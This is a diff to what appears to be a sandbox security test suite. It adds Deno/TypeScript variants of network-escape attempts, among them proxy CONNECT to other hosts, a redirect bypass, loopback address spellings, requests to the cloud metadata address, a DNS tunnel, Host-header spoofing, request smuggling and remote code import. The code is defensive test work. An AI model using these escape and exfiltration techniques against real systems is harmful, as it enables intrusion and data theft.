@@ -197,25 +197,45 @@ ATTACKS = (
     Attack("ask for a name (DNS)", 'socket.getaddrinfo("example.org", 80)',
            'await Deno.resolveDns("example.org", "A");'),
     Attack("one host allowed: CONNECT to another one", 'ask("CONNECT example.org:443 HTTP/1.1\\nHost: example.org\\n\\n")',
-           online=True),
+           'await fetch("https://example.org/");', online=True),
     Attack("one host allowed: another port of it",
-           'ask(f"CONNECT localhost:{place[\'port\']} HTTP/1.1\\nHost: localhost\\n\\n")', online=True),
+           'ask(f"CONNECT localhost:{place[\'port\']} HTTP/1.1\\nHost: localhost\\n\\n")',
+           'await fetch(`http://localhost:${place.port}/`);', online=True),
+    Attack("one host allowed: a redirect to another one",
+           'import urllib.error, urllib.request\n'
+           'try: urllib.request.urlopen(f"http://localhost:{place[\'allowed\']}/redirect/{place[\'port\']}", timeout=5)\n'
+           'except urllib.error.HTTPError as error: raise Refused if error.code == 403 else error',
+           'await fetch(`http://localhost:${place.allowed}/redirect/${place.port}`);', online=True),
     Attack("one host allowed: its address, in seven spellings",
            'for name in ("127.0.0.1", "127.1", "0x7f.1", "2130706433", "0", "[::1]", "[::ffff:127.0.0.1]"):\n'
            '    try:\n        ask(f"CONNECT {name}:{place[\'allowed\']} HTTP/1.1\\nHost: x\\n\\n")\n        return\n'
-           '    except Refused as error: last = error\nraise last', online=True),
+           '    except Refused as error: last = error\nraise last',
+           'let last;\nfor (const name of ["127.0.0.1", "127.1", "0x7f.1", "2130706433", "0", "[::1]", "[::ffff:127.0.0.1]"]) {\n'
+           '  try {\n    await fetch(`http://${name}:${place.allowed}/`);\n    return;\n'
+           '  } catch (error) {\n    last = error;\n  }\n}\nthrow last;', online=True),
     Attack("one host allowed: an address of the cloud's own data, by plain HTTP",
-           'ask("GET http://169.254.169.254/latest/ HTTP/1.1\\nHost: localhost\\n\\n")', online=True),
+           'ask("GET http://169.254.169.254/latest/ HTTP/1.1\\nHost: localhost\\n\\n")',
+           'await fetch("http://169.254.169.254/latest/");', online=True),
     Attack("one host allowed: to it without the proxy",
-           'socket.create_connection(("127.0.0.1", place["allowed"]), 5)', online=True),
+           'socket.create_connection(("127.0.0.1", place["allowed"]), 5)',
+           'await Deno.connect({ hostname: "localhost", port: place.allowed });', online=True),
     Attack("one host allowed: a datagram, a raw socket",
            'try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nexcept OSError:\n'
-           '    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53))', online=True),
+           '    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53))',
+           'const { createSocket } = await import("node:dgram");\nawait new Promise((done, fail) => {\n'
+           '  addEventListener("error", (event) => { event.preventDefault(); fail(event.error); });\n'
+           '  createSocket("udp4").on("error", fail).send("x", 53, "1.1.1.1", (error) => error ? fail(error) : done());\n});',
+           online=True),
     Attack("one host allowed: data in a name that has to be looked up (DNS tunnel)",
-           'ask(f"CONNECT loot.localhost:{place[\'allowed\']} HTTP/1.1\\nHost: localhost\\n\\n")', online=True),
+           'ask(f"CONNECT loot.localhost:{place[\'allowed\']} HTTP/1.1\\nHost: localhost\\n\\n")',
+           'await Deno.resolveDns("loot.example.org", "A", { nameServer: { ipAddr: "1.1.1.1", port: 53 } });', online=True),
     Attack("one host allowed: another host in the Host field",
            'said = ask(f"GET http://localhost:{place[\'allowed\']}/ HTTP/1.1\\nHost: inner.example\\n\\n")\n'
-           'if "inner.example" not in said: raise Refused', online=True),
+           'if "inner.example" not in said: raise Refused',
+           'const headers = { Host: "inner.example" };\n'
+           'const answer = await fetch(`http://localhost:${place.allowed}/`, { headers });\n'
+           'if ((await answer.text()).includes("inner.example")) return;\n'
+           'await Deno.connect({ hostname: "127.0.0.1", port: 3128 });', online=True),
     Attack("one host allowed: a second request hidden in the first (smuggling)",
            'head = f"POST http://localhost:{place[\'allowed\']}/ HTTP/1.1\\nHost: localhost\\n"\n'
            'hidden = "GET /hidden HTTP/1.1\\nHost: inner.example\\n\\n"\n'
@@ -223,15 +243,19 @@ ATTACKS = (
            '           f"Content-Length: 0\\nContent-Length: 60\\n\\n{hidden}",\n'
            '           f"Transfer-Encoding : chunked\\n\\n0\\n\\n{hidden}", f"Content-Length: 0\\n\\n{hidden}")\n'
            'for each in framing:\n    try: said = ask(head + each)\n    except Refused: continue\n'
-           '    if "hidden" in said or said.count("HTTP/1.") > 1: return\nraise Refused', online=True),
+           '    if "hidden" in said or said.count("HTTP/1.") > 1: return\nraise Refused',
+           'await Deno.connect({ hostname: "127.0.0.1", port: 3128 });', online=True),
     Attack("one host allowed: more connections than the proxy takes",
            'def fill(): return [socket.create_connection(("127.0.0.1", 3128), 5) for _ in range(50)]\nheld = fill()\n'
            'child = os.fork()\nif child == 0:\n    last = fill()[-1]\n    last.settimeout(5)\n'
            '    try: last.recv(1)\n    except TimeoutError: os._exit(0)\n    except OSError: pass\n    os._exit(1)\n'
-           'if os.waitpid(child, 0)[1]: raise ConnectionResetError(errno.ECONNRESET, "")', online=True),
+           'if os.waitpid(child, 0)[1]: raise ConnectionResetError(errno.ECONNRESET, "")',
+           'await Deno.connect({ hostname: "127.0.0.1", port: 3128 });', online=True),
     Attack("one host allowed: a descriptor of the proxy",
            'for number in range(3, 64):\n    try: kind = os.readlink(f"/proc/self/fd/{number}")\n'
-           '    except OSError: continue\n    if "socket" in kind: return\nraise OSError(errno.EBADF, "")', online=True),
+           '    except OSError: continue\n    if "socket" in kind: return\nraise OSError(errno.EBADF, "")',
+           'for (let number = 3; number < 64; number++) {\n  try {\n    if (Deno.readLinkSync(`/proc/self/fd/${number}`).includes("socket")) return;\n'
+           '  } catch (error) {\n    if (error.name !== "NotFound") throw error;\n  }\n}\nthrow new RangeError();', online=True),
     Attack("import code from the internet", 'import urllib.request\nurllib.request.urlopen("http://1.1.1.1/", timeout=5)',
            'await import("https://esm.sh/left-pad" + "");'),
     Attack("open a raw or netlink socket", 'socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)'),
@@ -289,7 +313,9 @@ ATTACKS = (
 )  # fmt: skip
 
 # Those that are ended from outside after a while: each is tried in a sandbox of its own.
-ENDLESS = ("compute without end", "sleep past the deadline", "write without end to its output")
+ENDLESS = (
+    "take memory without end", "compute without end", "sleep past the deadline", "write without end to its output",
+)  # fmt: skip
 
 
 # Those that succeed without a sandbox and leave nothing behind: they show that the scripts can do what they try.
@@ -353,6 +379,12 @@ class _Echo(BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
 
     def do_GET(self) -> None:
+        if self.path.startswith("/redirect/"):
+            self.send_response(302)
+            self.send_header("Location", f"http://127.0.0.1:{self.path.removeprefix('/redirect/')}/")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
         body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
         said = f"{self.headers['Host']} {self.path} {len(body)}".encode()
         self.send_response(200)
@@ -485,14 +517,14 @@ async def attacked_by_python(sandbox: Sandbox, place: Place, *, endless: bool = 
     Args:
         endless: try those too that take as long as they may.
     """
-    tried = {attack.name: attack.typescript for attack in ATTACKS if attack.typescript}
+    tried = {each.name: each.typescript for each in ATTACKS if each.typescript and not each.online}
     first = [name for name in tried if name not in ENDLESS]
     script = place.workspace / "attack_pyodide.py"
     script.write_text(PYODIDE_HEAD, encoding="utf-8")
     outcomes: dict[str, Outcome] = {}
     for names in (first, *([name] for name in ENDLESS if endless)):
         argv = [script.name, json.dumps(place.facts), json.dumps({name: tried[name] for name in names})]
-        seconds, output = (30, 1000) if names[0] in ENDLESS[1:] else (120, 20_000)
+        seconds, output = (30, 1000) if names[0] in ENDLESS[2:] else (120, 20_000)
         limits = SandboxLimits(seconds=seconds, cpu_seconds=20, memory=1 << 30, output=output)
         result = await sandbox.run(argv, Confinement(place.workspace), limits)
         lines = result.stdout.decode("utf-8", "replace").splitlines()
